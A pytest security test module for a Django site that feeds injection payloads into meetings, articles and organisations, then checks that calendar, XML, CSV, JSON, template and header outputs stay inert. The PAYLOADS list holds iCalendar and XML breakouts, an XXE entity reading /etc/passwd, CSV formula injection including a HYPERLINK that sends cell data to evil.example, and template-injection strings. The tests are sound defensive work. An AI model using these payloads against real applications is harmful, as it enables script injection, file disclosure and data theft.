"""What staff write stays text in every form in which machines get it: no line, no element, no formula, no command of its own."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from icalendar import Calendar
from lxml import etree

from tests.factories import ArticleFactory, AttendanceFactory, DelegationFactory, MeetingFactory, OrganizationFactory

pytestmark = pytest.mark.django_db

PAYLOADS = (
    "Talk\r\nATTENDEE:mailto:evil@example.org\r\nBEGIN:VALARM",
    "Talk\nEND:VEVENT\nEND:VCALENDAR\nBEGIN:VCALENDAR",
    'Talk;ALTREP="http://evil.example":x,y\\n\\;',
    "Talk]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "Talk</title><entry><title>forged</title></entry>",
    "Talk<!ENTITY a SYSTEM 'file:///etc/passwd'>&a;&#x0;",
    "Talk<?xml-stylesheet href='http://evil.example'?><!-- -- >",
    "Talk\x00\x08\x0b\x1f\ufffe\uffff\u2028\u2029",
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example?"&A1,"open")',
    "@SUM(1+1)*cmd|'/C calc'!A0",
    'Talk","=1+1"\n=1+1,',
    '{"a": 1}, "title": "forged", "b": {',
    "Talk{{ 7|add:98173 }}{% include '/etc/passwd' %}{% debug %}{# x #}",
    "Talk%(name)s %s {0} {name!r} ${7*14029} #{7*14029} <%= 7*14029 %>",
)


@pytest.fixture(params=range(len(PAYLOADS)))
def payload(request):
    """One payload as the title and summary of a meeting and its report, and as the name and post of who took part."""
    text = PAYLOADS[request.param]
    clean = text.replace("\x00", "")
    partner = OrganizationFactory(slug="partner", name_en=clean[:200])
    meeting = MeetingFactory(title_en=clean, summary_en=clean, place_en=clean[:200], slug_en="talk")
    delegation = DelegationFactory(meeting=meeting, organization=partner)
    AttendanceFactory(delegation=delegation, person__name_en=clean[:200], post_en=clean[:200])
    article = ArticleFactory(title_en=clean, summary_en=clean, slug_en="talk", source_line_en=clean[:200])
    article.organizations.add(partner)
    return text


def test_calendars_have_only_lines_of_ours(client, payload):
    response = client.get("/en/meetings/calendar.ics")
    calendar = Calendar.from_ical(response.getvalue())
    assert len(list(calendar.walk("VEVENT"))) == 1
    assert len(list(calendar.walk("VCALENDAR"))) == 1
    assert not list(calendar.walk("VALARM"))
    unfolded = re.sub(r"\r\n[ \t]", "", response.getvalue().decode())
    assert not [line for line in unfolded.splitlines() if line.startswith(("ATTENDEE", "ORGANIZER", "ATTACH"))]


@pytest.mark.parametrize(
    "address",
    [
        *("/en/news/feed/", "/sitemap.xml", "/en/sitemap-articles-1.xml", "/en/news-sitemap.xml"),
        "/oembed/?format=xml&url=http://testserver/en/organizations/partner/",
    ],
)
def test_xml_is_sound_and_has_no_elements_of_theirs(client, payload, address):
    response = client.get(address)
    assert response.status_code == 200
    root = etree.fromstring(response.getvalue(), etree.XMLParser(resolve_entities=False, no_network=True))
    assert root.getroottree().docinfo.doctype == ""
    tags = {element.tag.rpartition("}")[2] for element in root.iter("*")}
    assert "script" not in tags
    assert len([element for element in root.iter("*") if element.tag.endswith("}entry")]) <= 1


@pytest.mark.parametrize("address", ["/en/meetings/register.csv", "/en/organizations/directory.csv"])
def test_no_cell_of_a_table_is_a_formula(client, payload, address):
    rows = list(csv.reader(io.StringIO(client.get(address).getvalue().decode("utf-8-sig"))))
    assert len({len(row) for row in rows}) == 1
    assert not [cell for row in rows for cell in row if cell.lstrip()[:1] in tuple("=+@") or cell[:1] == "-"]


@pytest.mark.parametrize(
    "address",
    [
        *("/en/news/feed.json", "/en/meetings/register.json", "/en/organizations/directory.json"),
        *("/api/v1/articles/?language=en", "/api/v1/meetings/?language=en", "/en/search/suggestions/?q=talk"),
    ],
)
def test_json_is_sound(client, payload, address):
    assert "forged" not in json.loads(client.get(address).getvalue())


@pytest.mark.parametrize(
    "address",
    ["/en/", "/en/news/", "/en/meetings/", "/en/organizations/partner/", "/en/search/?q=talk", "/en/news/feed/"],
)
def test_no_template_is_made_of_what_they_wrote(client, payload, address):
    text = client.get(address).getvalue().decode()
    # What 7 × 14029 and 7 + 98173 would come to.
    made = "98203" if "7*14029" in payload else "98180"
    assert made not in text
    assert "root:x:" not in text
    if "{{" in payload and "news" in address:
        assert "{{ 7|add:98173 }}" in text


def test_no_header_is_made_of_what_they_wrote(client, payload):
    for address in ("/en/news/?q=", "/en/search/?q="):
        response = client.get(address, query_params={"q": payload, "page": payload})
        assert all("\n" not in value and "\r" not in value for value in response.headers.values())
        assert "Set-Cookie" not in response
